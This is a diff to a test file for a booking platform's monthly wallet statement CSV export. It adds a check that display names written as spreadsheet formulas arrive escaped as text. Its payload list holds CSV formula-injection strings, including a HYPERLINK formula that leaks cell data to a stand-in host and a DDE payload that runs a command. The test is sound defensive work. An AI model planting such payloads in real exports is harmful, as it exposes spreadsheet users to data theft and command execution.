@@ -4,11 +4,13 @@
  * through the real flow this month; a crafted October 2025 with postings just inside and just
  * outside its Copenhagen bounds (summer time at the start, winter time at the end), a refund, a
  * payoff approval that counts nowhere and another talent's lines. Only the talent and admins get it.
+ * A display name written as a formula reaches neither the talent's nor the admin's spreadsheet as one.
  * Runs on SQLite and on PostgreSQL.
  */
 import { extractText } from 'unpdf';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { acceptedBooking, bookingStatus, createBookingWorld, creditAvailable, dateInDays, must, page, payBooking, type BookingWorld } from '../support/bookings';
+import { parseCsv, runsAsFormula } from '../support/csv';
 import { startServer, type TestServer, type Visitor } from '../support/server';
 
 let server: TestServer;
@@ -190,5 +192,30 @@ describe('only the talent and admins', () => {
     const res = await download(w.admin, `${path}&talent=${w.talent1.profileId}`);
     expect(res.status).toBe(200);
     expect(csvTotals(res.bytes).totals.net).toBe(110_500);
+  });
+});
+
+describe('a display name written as a formula', () => {
+  // The name rule refuses these from the talent; an admin's edit (or an older row) still holds them.
+  const payloads = ['=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '  =1+1', '\n=1+1', '＝1+1'];
+
+  it('arrives as text in the CSV, for the talent and for the admin', async () => {
+    const { updateTalentProfile } = await must(w.admin, `query($id: ID!) { updateTalentProfile: talentProfile(where: { id: $id }) { displayName } }`, { id: w.talent2.profileId });
+    try {
+      for (const payload of payloads) {
+        await must(w.admin, `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`, { id: w.talent2.profileId, name: payload });
+        for (const [who, path] of [['talent', '/wallet/statement.csv?aar=2025&maaned=10'], ['admin', `/wallet/statement.csv?aar=2025&maaned=10&talent=${w.talent2.profileId}`]] as const) {
+          const res = await download(who === 'talent' ? w.talent2.visitor : w.admin, path);
+          expect(res.status, who).toBe(200);
+          const rows = parseCsv(new TextDecoder().decode(res.bytes));
+          const nameRow = rows.find((row) => row[0] === 'Talent')!;
+          expect(nameRow, `${who}: ${JSON.stringify(payload)}`).toEqual(['Talent', `'${payload}`]);
+          const textCells = rows.flat().filter((cell) => !/^-?\d+,\d\d$/.test(cell)); // amounts are numbers
+          expect(textCells.filter(runsAsFormula), who).toEqual([]);
+        }
+      }
+    } finally {
+      await must(w.admin, `mutation($id: ID!, $name: String!) { updateTalentProfile(where: { id: $id }, data: { displayName: $name }) { id } }`, { id: w.talent2.profileId, name: updateTalentProfile.displayName });
+    }
   });
 });
